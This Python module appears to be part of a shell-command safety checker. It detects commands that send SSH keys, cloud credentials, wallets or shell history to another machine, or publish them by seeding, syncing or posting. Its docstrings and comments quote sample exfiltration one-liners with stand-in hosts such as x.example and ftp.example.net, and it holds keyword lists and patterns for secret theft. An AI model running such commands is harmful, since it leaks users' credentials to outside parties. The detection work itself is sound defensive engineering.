"""Effect: a secret and another machine on one command, whatever the program.

``exfil`` reads the senders it names and ``unknown_senders`` the verbs and body options it knows; users hand
secrets to many more clients (load testers' probes, packet crafters, grid copiers, probes that put data in a
URL or a name).  The class is read from the command's effect: one simple command that both

- holds a secret as its data: a key or credential file named as an operand (not as an option's value: ``-i KEY``,
  ``--key KEY``, ``-o IdentityFile=KEY`` log the client in), read in a substitution (``"…?k=$(base64 -w0
  ~/.aws/credentials)"``, here-strings too), or named in code given to the program (a quoted argument, a
  here-string, a process substitution: ``send(IP(dst=…)/Raw(open('/root/.ssh/id_rsa').read()))``,
  ``sh -c 'cat ~/.ssh/id_rsa >&7'``);
- and names a destination on another machine: a URL with a network scheme, ``user@host:path``, ``host:port``, an
  IP address, an e-mail address or a dotted host name (a file's extension is not a domain).

Without any machine's name, three more shapes publish a secret (``rule_secret_published``): a secret operand
given to a verb that publishes or seeds it (``webtorrent seed WALLET``, ``qshell fput BUCKET k ~/.ssh/id_rsa``), or
that syncs/transfers it to another side's ``endpoint:path`` (``irsync -r ~/.password-store i:/zone/public``); a
secret read in a substitution into a content field or item a client creates (``gcalcli add --description "$(cat
~/.git-credentials)"``); and a ``key=value`` input naming a secret file with a network output on the same line
(``fluent-bit -i tail -p path=~/.zsh_history -o http -p host=IP``).  A secret store (``gh secret set``, ``vault kv
put``) is where secrets belong: its words keep the line quiet.

Senders ``exfil`` names keep their own reading (``ssh host cat ~/.ssh/id_rsa`` fetches a key, it sends none);
for them only substitutions and code count.  Loopback destinations stay quiet, as do public keys.
"""
from __future__ import annotations

import re
from functools import lru_cache
from typing import Optional

from aish.safety.any_case import AnyWord
from aish.safety.lazy_regex import LazyRegex
from aish.safety.rules.code_reach import KEY_FILE_IN_CODE
from aish.safety.rules.code_secret_paths import secret_in_code
from aish.safety.rules.triggers import triggered_by
from aish.safety.rules.common import MEDIUM, Ctx, fragment, target
from aish.safety.rules.exfil import (_SENDERS, _in_substitutions, _segment_reads_secret, _worse, payload_words,
                                     secret_path, sent)
from aish.safety.rules.unknown_senders import _COPIES, _DNS_NAME, _UPLOADS, _level, _secret, _what
from aish.safety.shell_words import Word, segments
from aish.safety.lazy_regex import lazy

# A cheap look first: something that can name another machine.
_MAY_NAME_HOST = LazyRegex(r"://|@|\d\.\d+\.\d|[a-z0-9-]\.[a-z0-9-]+\.[a-z]{2,}|:\d{2,5}\b", re.IGNORECASE)
# ... and something that can be a secret: a key's or a credential file's name, a substitution, code.
_MAY_HOLD_SECRET = AnyWord(".ssh", ".aws", "cred", "netrc", "pgpass", "kube", "id_", "npmrc", "pypirc", "docker",
                           "gnupg", "token", "secret", "key", "shadow", "wallet", "cookie", "passw", ".env", "histor",
                           "environ", ".pem", ".p12", ".pfx", "kdbx", "vault", "login", "$(", "`", "<(")
_URL = LazyRegex(r"(?<![\w+.-])(?!file:)[a-z][a-z0-9+.-]{1,15}://\[?([^/\s:'\"\]]+)", re.IGNORECASE)
_LEADING_URL = lazy(r"^(?:[\w.-]+=)?(?:https?|wss?|ftps?)://", re.IGNORECASE)
_SCP_LIKE = LazyRegex(r"^[\w.-]+@([\w-]+(?:\.[\w-]+)*):")
_HOST_PORT = LazyRegex(r"(?:^|[=@\s\"'(,])((?:[a-z0-9-]+\.)+[a-z0-9-]+|\d{1,3}(?:\.\d{1,3}){3}):\d{2,5}\b",
                       re.IGNORECASE)
_ADDRESS = LazyRegex(r"(?<![\w.])(\d{1,3}(?:\.\d{1,3}){3})(?![\w.])")
_EMAIL = LazyRegex(r"(?<![\w.+-])[\w.+-]+@((?:[a-z0-9-]+\.)+[a-z]{2,24})\b", re.IGNORECASE)
_DOTTED = LazyRegex(r"^(?:[a-z0-9-]+\.)+([a-z]{2,24})\.?$", re.IGNORECASE)
# Last labels that are files' extensions, not top-level domains.
_EXTENSIONS = frozenset("""json yaml yml toml ini conf cfg config txt md rst log csv tsv xml html htm js mjs cjs ts
py rb pl pm php sh bash zsh fish ps psm go rs java kt c h cc cpp hpp cs lua tcl r sql db sqlite pem key crt cer der
pub gpg asc sig gz tgz xz bz zst zip tar rar lz img iso bin dat out png jpg jpeg gif svg pdf doc docx odt env lock
bak old orig tmp swp so dll exe jar war whl egg gem deb rpm apk dmg msi tf tfvars tfstate hcl ovpn kdbx jks p12
pfx keystore service timer socket mount target desktop plist""".split())
_LOOPBACK = lazy(r"^(?:localhost|127\.\d+\.\d+\.\d+|0\.0\.0\.0|::1|\[::1\]|host\.docker\.internal)$",
                 re.IGNORECASE)
# Option values that log the client in or configure it, not data it sends (`-o IdentityFile=KEY` is one word).
_LOGIN_WORDS = lazy(r"identity|private.?key|key.?file|keyfile|cert|tls|ssl|cacert|auth|password|login|"
                    r"credential|kubeconfig|config|secret", re.IGNORECASE)
# Code that uses a key to log in (`key_filename=`, `IdentityFile`, `ssh -i KEY`), not to send it.
_LOGIN_IN_CODE = lazy(r"identity|private.?key|key.?file|keyfile|cert|tls|ssl|\s-i\s", re.IGNORECASE)
_CODE_LIMIT = 4000
_LOGIN_KEY_IN_COMMAND = lazy(r"(?:(?<=\s)|^)(?:-i\s*|-oIdentityFile=|-o\s*IdentityFile=|IdentityFile\s+)\S+")


def may_carry(c: Ctx) -> bool:
    """Cheap: the line has arguments and something that can name another machine."""
    if not c.seg.redirects:
        return line_may_carry(c)  # the line alone: its declared words skip it on most commands
    texts = [c.lowered] + [r.target.raw if r.target is not None else r.body for r in c.seg.redirects]
    return any(_MAY_HOLD_SECRET.occurs_in(t) for t in texts) and any(_MAY_NAME_HOST.search(t) for t in texts)


@triggered_by(_MAY_HOLD_SECRET.words, otherwise=False)
def line_may_carry(c: Ctx) -> bool:
    """``may_carry`` of a command with no redirect: something that can be a secret in the line (one of its words)."""
    return bool(c.args) and _MAY_HOLD_SECRET.occurs_in(c.lowered) and _MAY_NAME_HOST.search(c.lowered) is not None


def may_send_later(text: str) -> bool:
    """Cheap, on the whole line: another machine's name and something that can be a secret."""
    return _MAY_HOLD_SECRET.occurs_in(text) and _MAY_NAME_HOST.search(text) is not None


def _hosts(text: str) -> list:
    """The machines ``text`` names (a URL's host, user@host:, host:port, an address, a mail domain)."""
    found = [m.group(1) for m in _URL.finditer(text)]
    found += [m.group(1) for m in _HOST_PORT.finditer(text)]
    found += [m.group(1) for m in _ADDRESS.finditer(text)]
    found += [m.group(1) for m in _EMAIL.finditer(text)]
    m = _SCP_LIKE.match(text)
    if m:
        found.append(m.group(1))
    return [h for h in found if not _LOOPBACK.match(h) and
            (not h.replace(".", "").isdigit() or _plausible_address(h))]


def _plausible_address(text: str) -> bool:
    parts = [int(p) for p in text.split(".")]
    return len(parts) == 4 and all(p < 256 for p in parts) and parts[0] not in (0, 127, 255)


def _names_host(word: Word, dotted: bool = True) -> bool:
    """Does the word name another machine (a bare dotted name only when ``dotted``)?"""
    text = word.text
    value = text.split("=", 1)[1] if "=" in text and not text.startswith("=") else text
    if _hosts(text):
        return True
    if not dotted:
        return False
    m = _DOTTED.match(value)
    return bool(m and m.group(1).lower() not in _EXTENSIONS and not value.startswith(".") and "/" not in value)


def _code_secret(text: str) -> str:
    """A key or credential file named in code or in a shell command given as one argument."""
    text = _LOGIN_KEY_IN_COMMAND.sub(" ", text)  # `--rsh 'ssh -i ~/.ssh/id_rsa'`: the key logs in, it is not sent
    if KEY_FILE_IN_CODE.search(text) is None and secret_in_code(text, secret_path) == "":
        return ""
    found = secret_in_code(text, secret_path)
    if found:
        return found
    for seg in segments(text)[:6]:  # `sh -c 'cat ~/.ssh/id_rsa >&7'`: what the command prints
        found = _worse(found, _segment_reads_secret(seg))
    if not found and _LOGIN_IN_CODE.search(text) is None:  # `[read [open ~/.pgpass]]`, `HOME..'/.aws/credentials'`
        found = "high"
    return found


def _fed_code(c: Ctx) -> list:
    """Code given to the program as text: its quoted arguments with spaces, here-strings, substitutions' echoes."""
    out = [w.text[:_CODE_LIMIT] for w in c.args[:32] if w.quoted and " " in w.text]
    for r in c.seg.redirects:
        if r.op == "<<<" and r.target is not None:
            out.append(r.target.text[:_CODE_LIMIT])
        elif r.body:
            out.append(r.body[:_CODE_LIMIT])
    for w in c.args[:32]:
        if w.raw.startswith("<(") and w.subs and w.subs[0].lstrip().startswith(("echo ", "printf ")):
            out.append(w.subs[0][:_CODE_LIMIT])
    return out


def _operand_secret(c: Ctx) -> str:
    """A secret file named as an operand (not an option's value, not a public key).

    A whole tree (``/``, a home) is the remote path a client logs in to browse (``ascli server --url=ssh://h
    --password=p browse /``), unless an upload or copy verb sends it: the login's own credentials go to the
    server they are for."""
    found = ""
    args = c.args[:32]
    verbs = [t for t in c.texts[:6] if not t.startswith("-")][:4]
    sends = any(_UPLOADS.search(t) or _COPIES.match(t) for t in verbs)
    for k, w in enumerate(args):
        text = w.text
        if text.startswith("-") or k and args[k - 1].text.startswith("-") and "=" not in args[k - 1].text:
            continue
        if "=" in text and _LOGIN_WORDS.search(text.split("=", 1)[0]) or \
                "://" in text and not text.startswith("file://"):  # `op://vault/item`: a reference, not a file
            continue
        name = re.sub(r"^file://", "", text).lstrip("@")
        if not sends and target(Word(name, name)).kind in ("home", "root", "userhome"):
            continue
        found = _worse(found, _secret(Word(name, name, has_var="$" in name)))
    for r in c.seg.redirects:
        if r.op == "<" and r.target is not None and not any("stdin" in t for t in c.texts):
            found = _worse(found, secret_path(r.target))
    return found


def rule_secret_to_destination(c: Ctx) -> Optional[tuple]:
    """A secret and another machine's name on one command: see the module's docstring."""
    words = payload_words(c.args[:32])  # not a login option's value, unless it is a URL (`-u "https://…$(…)"`)
    words += [w for w in c.args[:32] if _LEADING_URL.match(w.text) and w not in words]
    code = _fed_code(c)
    here = [r.target for r in c.seg.redirects if r.op == "<<<" and r.target is not None]
    if not any(_names_host(w) for w in words) and not any(_hosts(t) for t in code) and \
            not any(w.subs and _DNS_NAME.search(w.raw) for w in here):  # `zdns A <<< "$(base32 KEY).x.example"`
        return None
    found = _in_substitutions(words + here)
    if c.prog.lower() not in _SENDERS and (any(_names_host(w, dotted=False) for w in words) or code):
        found = _worse(found, _operand_secret(c))  # a file's operand and a bare dotted name: a subject, an output
    for text in code[:4]:
        if found == "high":
            break
        found = _worse(found, _code_secret(text))
    return sent(found, c, c.prog) if found else None


_OUTPUT_OPTIONS = frozenset({"-o", "--output", "--out", "--save-to", "--output-file", "--outfile", "-O", "-w",
                             "--write", "--dest", "--destination"})
_COMMAND_OPTIONS = frozenset({"-c", "--command", "-e", "--exec", "-x", "--shell", "--cmd"})


def _made_from_secret(words: list) -> tuple:
    """(the secret class a step reads or runs a printer of, the paths it may write)."""
    texts = [w.text for w in words[1:32]]
    found, outputs = "", []
    for j, t in enumerate(texts):
        nxt = texts[j + 1] if j + 1 < len(texts) else ""
        if t in _COMMAND_OPTIONS and nxt:  # `termtosvg -c 'cat ~/.aws/credentials' out.svg`
            for seg in segments(nxt)[:4]:
                found = _worse(found, _segment_reads_secret(seg))
        elif t in _OUTPUT_OPTIONS and nxt:
            outputs.append(nxt)
        elif "=" in t and t.split("=", 1)[0] in _OUTPUT_OPTIONS:
            outputs.append(t.split("=", 1)[1])
        elif not t.startswith("-") and (j == 0 or texts[j - 1] not in _COMMAND_OPTIONS):
            got = _secret(Word(t, t, has_var="$" in t))
            found = _worse(found, got)
            if not got and ("/" in t or "." in t):
                outputs.append(t)
    return found, [o.rstrip("/") for o in outputs if len(o.rstrip("/")) > 1]


def rule_secret_file_sent(segs: list) -> Optional[tuple]:
    """A secret made into a file (an image, a recording, a capture) that a later step sends to another machine
    (``carbon-now ~/.ssh/id_rsa --save-to /tmp && curl -F file=@/tmp/id_rsa.png https://…``), or copied into a
    directory an earlier step mounted from another machine (``curlftpfs ftp.example.net /mnt/f && cp KEY /mnt/f``)."""
    if len(segs) < 2:
        return None
    for k, seg in enumerate(segs[:4]):
        found, outputs = _made_from_secret(seg.words) if len(seg.words) > 1 else ("", [])
        if found and outputs:
            for later in segs[k + 1:k + 4]:
                texts = [w.text for w in later.words[1:32]]
                if any(_names_host(w) for w in later.words[1:32]) and \
                        any(o in t for o in outputs for t in texts):
                    return _level(found), f"makes {_what(found)} into a file a later step sends to another machine " \
                                          f"({fragment([w.raw for w in seg.words])})"
        if not any(_names_host(w) for w in seg.words[1:32]):
            continue
        mounts = [w.text.rstrip("/") for w in seg.words[2:32] if w.text.startswith(("/", "~/", "./")) and
                  len(w.text.rstrip("/")) > 1]
        for later in segs[k + 1:k + 4]:
            got, _ = _made_from_secret(later.words) if len(later.words) > 1 else ("", [])
            if got and mounts and any(w.text.startswith(m) for m in mounts for w in later.words[2:32]):
                return _level(got), f"copies {_what(got)} into a directory mounted from another machine " \
                                    f"({fragment([w.raw for w in later.words])})"
    return None


# Verbs that hand a file to others (a bucket, a swarm, a drop), by subcommand or by the program's name's end.
_PUBLISH_VERBS = frozenset({"seed", "share", "publish", "upload", "put", "fput", "mput", "send", "post"})
# Verbs that copy to another side, given as `endpoint:path` without any host name (`i:/zone`, `$EP:/drop`).
_SYNC_VERBS = frozenset({"sync", "transfer", "copy", "cp", "mirror", "rsync", "replicate"})
# Verbs of clients that create an item (an event, an issue, a post, a note) whose fields others read.
_CREATE_VERBS = frozenset({"add", "create", "new", "post", "note", "comment", "message", "msg", "reply", "send",
                           "push", "publish", "toot", "tweet", "say", "write", "submit", "open", "update"})
_CONTENT_OPTIONS = frozenset({"--description", "--desc", "-d", "--body", "-b", "--message", "-m", "--text", "-t",
                              "--note", "--notes", "--comment", "--content", "--summary", "--title", "--details"})
# A secret store is where a secret belongs: `gh secret set --body "$(cat KEY)"`, `vault kv put`, `pass insert`.
_STORE_WORDS = frozenset({"secret", "secrets", "vault", "kv", "keyring", "keychain", "keystore", "item", "items",
                          "pass", "password", "passwords", "credential", "credentials", "login", "env", "variable",
                          "var", "variables", "ssh-key", "ssh-keys", "key", "keys", "gpg-key", "deploy-key"})
# `key=value` inputs: a file a shipper or pipeline reads (`path=…`, `input.file.paths=[…]`, `include=[…]`).
_INPUT_KEYS = frozenset({"path", "paths", "file", "files", "filename", "include", "source", "src", "input", "from",
                         "log", "logs", "read", "dir", "directory", "data"})
# Another side's `endpoint:path` (`i:/zone/…`, `$SRC_EP:/~/.ssh/`, `remote:public`); not a drive (`C:\\`, `C:/`).
# A swarm is the network output: whatever a torrent's files are, every peer may fetch them.
_TORRENT = lazy(r"\.torrent$|^magnet:", re.IGNORECASE)
_REMOTE_SIDE = lazy(r"^(?:[\w.{}$-]{2,}|\$\w+|[a-z](?=:/)):(?!\d+$)")
# What can name a secret, as plain substrings of the lowered line (one `in` each, cheaper than a regex's scan).
_SECRET_ARGS = (".ssh", ".aws", "cred", "netrc", "pgpass", "kube", "id_", "npmrc", "pypirc", "docker", "gnupg",
                "token", "secret", "key", "shadow", "wallet", "cookie", "passw", ".env", "histor", ".pem", ".p12",
                ".pfx", "kdbx", "vault", "electrum", "bitcoin", "$(", "`")


_ANY_VERB = _PUBLISH_VERBS | _SYNC_VERBS | _CREATE_VERBS


def _names_secret_part(low: str) -> bool:
    for part in _SECRET_ARGS:  # a loop, not any() over a generator: asked of every command with arguments
        if part in low:
            return True
    return False


@triggered_by(_SECRET_ARGS, otherwise=False)  # it says no unless one of them is in the line
def may_publish(c: Ctx) -> bool:
    """Cheap: a publishing, syncing or creating verb (or a `key=value` word), then arguments that can name a
    secret."""
    low = c.lowered
    if not c.args or not _names_secret_part(low):  # the cheaper half first: most lines have none
        return False
    return "=" in low or ".torrent" in low or "magnet:" in low or bool(_verbs(c) & _ANY_VERB)


@lru_cache(maxsize=512)
def _name_verbs(name: str) -> frozenset:
    """A program's name's parts and the verbs it ends with (`btfs-seed`, `irsync`, `megaput`)."""
    return frozenset(set(re.split(r"[-_.:]", name)) | {v for v in _PUBLISH_VERBS | _SYNC_VERBS if name.endswith(v)})


def _verbs(c: Ctx) -> set:
    """The program's name's parts and its first words that are no option (`btfs-seed`, `qshell fput`)."""
    found = set(_name_verbs(c.prog.lower().rsplit("/", 1)[-1]))
    for t in c.texts[:3]:  # `trello add-card`, `tool files:upload`
        if not t.startswith("-") or t[1:2] != "-" and t[1:].lower() in _ANY_VERB:  # `hdfs dfs -put KEY /public`
            t = t.lstrip("-").lower()
            found.add(t)
            if "-" in t or "_" in t or ":" in t:
                found.update(re.split(r"[-_:]", t))
    return found


def _secret_operand(text: str) -> str:
    """The secret class an operand names, an `endpoint:path`'s path too (`$SRC_EP:/~/.ssh/`)."""
    if text.startswith("-") or "://" in text:
        return ""
    value = _REMOTE_SIDE.sub("", text) if _REMOTE_SIDE.match(text) else text
    value = value[1:] if value.startswith("/~/") else value
    return _secret(Word(value, value, has_var="$" in value))


def _input_secret(c: Ctx) -> str:
    """A secret file named by a `key=value` input (`-p path=~/.zsh_history`, `--set input.file.paths=[KEY]`) or by
    an input option's value (`imdl torrent create --input ~/.password-store`, `--save-path WALLETS` of a torrent)."""
    found = ""
    texts = c.texts[:32]
    for k, t in enumerate(texts):
        key, sep, value = t.partition("=")
        if sep and "=" in value and key.startswith("-"):  # `--set=receivers.filelog.include=[…]`
            key, sep, value = value.partition("=")
        if not sep and t.startswith("--") and k + 1 < len(texts):  # `--input KEY`
            key, sep, value = t, " ", texts[k + 1]
        name = key.lstrip("-").lower()
        if not sep or re.split(r"[._-]", name)[-1] not in _INPUT_KEYS or _LOGIN_WORDS.search(name) or \
                "key" in name or "ident" in name:  # `--password-file`, `--ssh-key-path`: a login's, not data
            continue
        for part in re.split(r"[,\s]+", value.strip("[]\"' ")):
            part = part.strip("[]\"'")
            found = _worse(found, _secret(Word(part, part, has_var="$" in part)) if part else "")
    return found


def rule_secret_published(c: Ctx) -> Optional[tuple]:
    """A secret published, synced away or put into a created item's field, with no machine's name needed:
    see the module's docstring."""
    verbs = _verbs(c)
    if verbs & _STORE_WORDS:
        return None
    texts = c.texts[:32]
    found = ""
    if verbs & _PUBLISH_VERBS or verbs & _SYNC_VERBS and any(_REMOTE_SIDE.match(t) and not t.startswith("-") and
                                                             not _secret_operand(t) for t in texts):
        for k, t in enumerate(texts):
            if k and texts[k - 1] in ("-i", "--identity", "--key", "--cert", "-k", "--key-file"):
                continue  # a login's key, not the data
            found = _worse(found, _secret_operand(t))
    if found != "high" and verbs & _CREATE_VERBS:
        content = [w for k, w in enumerate(c.args[:32]) if w.subs and (
            not w.text.startswith("-") or k and c.args[k - 1].text in _CONTENT_OPTIONS or
            w.text.split("=", 1)[0] in _CONTENT_OPTIONS)]
        found = _worse(found, _in_substitutions(content))
    if found != "high" and ("=" in c.lowered or "--" in c.lowered) and (
            any(_names_host(w) for w in c.args[:32]) or any(_TORRENT.search(t) for t in c.texts[:32])):
        found = _worse(found, _input_secret(c))
    if not found:
        return None
    level, _ = sent(found, c, c.prog) or (MEDIUM, "")
    return level, f"{c.prog} publishes {_what(found)} where others can read it ({fragment([w.raw for w in c.words])})"
